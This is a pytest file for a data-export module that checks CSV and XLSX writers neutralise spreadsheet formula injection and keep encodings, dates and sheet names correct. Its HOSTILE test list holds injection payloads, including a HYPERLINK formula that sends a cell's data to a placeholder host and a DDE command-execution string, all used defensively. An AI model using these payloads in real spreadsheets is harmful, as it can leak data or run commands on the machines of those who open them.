"""The shared export writers: formula neutralising, encodings and types, checked cell by cell."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime, time

import openpyxl
import pandas as pd
import pytest

from ekinerja import exports
from ekinerja.validation import ValidationError

HOSTILE = [
    '=HYPERLINK("http://x.example/?d="&A2,"y")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    "=1+1",
    "{=1+1}",
]


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM expected"
    text = data[3:].decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


# --- CSV -----------------------------------------------------------------------------------------

CSV_TEXT_CASES = [
    ("=1+1", "'=1+1"),
    ("+1", "'+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("\x00=1", "'\x00=1"),
    ("{=1+1}", "{=1+1}"),  # a brace is not a formula start in CSV
    ("Budi", "Budi"),
    ("a=b", "a=b"),  # only the first character matters
    ("", ""),
    ("Ãndré ‮ zero​width", "Ãndré ‮ zero​width"),
]


@pytest.mark.parametrize(
    ("text", "expected"), CSV_TEXT_CASES, ids=[repr(c[0]) for c in CSV_TEXT_CASES]
)
def test_csv_text_cell_starting_with_a_formula_trigger_gets_an_apostrophe(
    text: str, expected: str
) -> None:
    rows = _csv_rows(exports.to_csv_bytes(pd.DataFrame({"x": [text]})))
    assert rows == [["x"], [expected]]


def test_csv_real_numbers_stay_numbers_and_text_minus_is_neutralised() -> None:
    df = pd.DataFrame(
        {"angka": [-5, 3, 0], "teks": ["-5", "-2+3", "7"], "pecahan": [-1.25, 2.0, 0.1]}
    )
    rows = _csv_rows(exports.to_csv_bytes(df))
    assert rows[1:] == [["-5", "'-5", "-1.25"], ["3", "'-2+3", "2"], ["0", "7", "0.1"]]


def test_csv_is_rfc4180_with_crlf_and_quotes_doubled() -> None:
    df = pd.DataFrame({"a": ['say "hi"', "x,y", "line1\nline2"], "b": [1, 2, 3]})
    data = exports.to_csv_bytes(df)
    assert data == ('\ufeffa,b\r\n"say ""hi""",1\r\n"x,y",2\r\n"line1\nline2",3\r\n'.encode())


def test_csv_dates_missing_values_booleans_and_wib_times() -> None:
    df = pd.DataFrame(
        {
            "tanggal": [date(2026, 10, 5), None],
            "waktu": [datetime(2026, 10, 5, 0, 31, tzinfo=UTC), None],
            "jam": [time(7, 30), None],
            "ok": [True, False],
            "n": [1.0, float("nan")],
        }
    )
    rows = _csv_rows(exports.to_csv_bytes(df))
    # 00:31 UTC is 07:31 WIB.
    assert rows[1] == ["2026-10-05", "2026-10-05 07:31:00", "07:30:00", "ya", "1"]
    assert rows[2] == ["", "", "", "tidak", ""]


def test_csv_header_is_neutralised_too() -> None:
    rows = _csv_rows(exports.to_csv_bytes(pd.DataFrame({"=cmd": [1]})))
    assert rows[0] == ["'=cmd"]


def test_csv_lone_surrogate_does_not_break_the_file() -> None:
    frame = pd.DataFrame({"x": pd.Series(["a\ud800b"], dtype=object)})
    rows = _csv_rows(exports.to_csv_bytes(frame))
    assert rows[1] == ["a?b"]


# --- XLSX ----------------------------------------------------------------------------------------


def _xlsx(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def _as_excel_shows(value: str) -> str:
    """openpyxl keeps Excel's _xHHHH_ escapes of control characters; Excel shows the character."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def test_xlsx_hostile_text_is_stored_as_text_never_as_formula() -> None:
    data = exports.to_xlsx_bytes({"Uji": pd.DataFrame({"isi": HOSTILE})})
    sheet = _xlsx(data)["Uji"]
    for row, text in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row=row, column=1)
        assert cell.data_type == "s", text
        assert _as_excel_shows(cell.value) == text
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        xml = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def test_xlsx_numbers_are_numbers_dates_are_dates() -> None:
    df = pd.DataFrame(
        {
            "angka": [-5, 12],
            "pecahan": [1.25, -0.5],
            "teks": ["-5", "12"],
            "tanggal": [date(2026, 10, 5), date(2026, 10, 6)],
            "waktu": [datetime(2026, 10, 5, 0, 31, tzinfo=UTC), None],
            "nip": ["198501012010011001", "198501012010011002"],
            "besar": [2**60, 1],
        }
    )
    sheet = _xlsx(exports.to_xlsx_bytes({"Data": df}))["Data"]
    assert [c.value for c in sheet[1]] == list(df.columns)
    assert sheet["A2"].value == -5 and sheet["A2"].data_type == "n"
    assert sheet["B2"].value == 1.25 and sheet["B3"].value == -0.5
    assert sheet["C2"].value == "-5" and sheet["C2"].data_type == "s"
    assert sheet["D2"].value == datetime(2026, 10, 5) and sheet["D2"].is_date
    assert sheet["E2"].value == datetime(2026, 10, 5, 7, 31)  # WIB wall clock
    assert sheet["E3"].value is None
    assert sheet["F2"].value == "198501012010011001" and sheet["F2"].data_type == "s"
    assert sheet["G2"].value == str(2**60)  # too large for an exact Excel number
    assert sheet["G3"].value == 1


def test_xlsx_header_frozen_and_control_characters_survive() -> None:
    data = exports.to_xlsx_bytes({"A": pd.DataFrame({"x": ["a\x00b\x07c"]})})
    sheet = _xlsx(data)["A"]
    assert sheet.freeze_panes == "A2"
    assert _as_excel_shows(sheet["A2"].value) == "a\x00b\x07c"


SHEET_CASES = [
    ("Dinas Komunikasi dan Informatika Kota Madiun", "Dinas Komunikasi dan Informatik"),
    ("a[b]c:d*e?f/g\\h", "a_b_c_d_e_f_g_h"),
    ("'quoted'", "quoted"),
    ("", "Lembar"),
    ("History", "Lembar History"),
]


@pytest.mark.parametrize(("raw", "expected"), SHEET_CASES)
def test_sheet_names_are_sanitised(raw: str, expected: str) -> None:
    assert exports.sheet_name(raw) == expected
    assert len(exports.sheet_name(raw)) <= 31


def test_sheet_names_stay_unique_after_truncation() -> None:
    long = "X" * 40
    data = exports.to_xlsx_bytes(
        {long: pd.DataFrame({"a": [1]}), long + "2": pd.DataFrame({"a": [2]})}
    )
    names = _xlsx(data).sheetnames
    assert names == ["X" * 31, "X" * 27 + " (2)"]


def test_xlsx_number_formats_apply_by_column_name() -> None:
    data = exports.to_xlsx_bytes(
        {"S": pd.DataFrame({"Potongan (%)": [3.75]})}, number_formats={"Potongan (%)": "0.00"}
    )
    cell = _xlsx(data)["S"]["A2"]
    assert cell.value == 3.75 and cell.number_format == "0.00"


def test_xlsx_refuses_no_sheets() -> None:
    with pytest.raises(ValidationError, match="Tidak ada lembar"):
        exports.to_xlsx_bytes({})


def test_safe_filename_strips_path_and_odd_characters() -> None:
    assert exports.safe_filename('../rekap 2026-10/CON\n"x"', "csv") == "rekap_2026-10_CON_x.csv"
    assert exports.safe_filename("...", "xlsx") == "ekspor.xlsx"
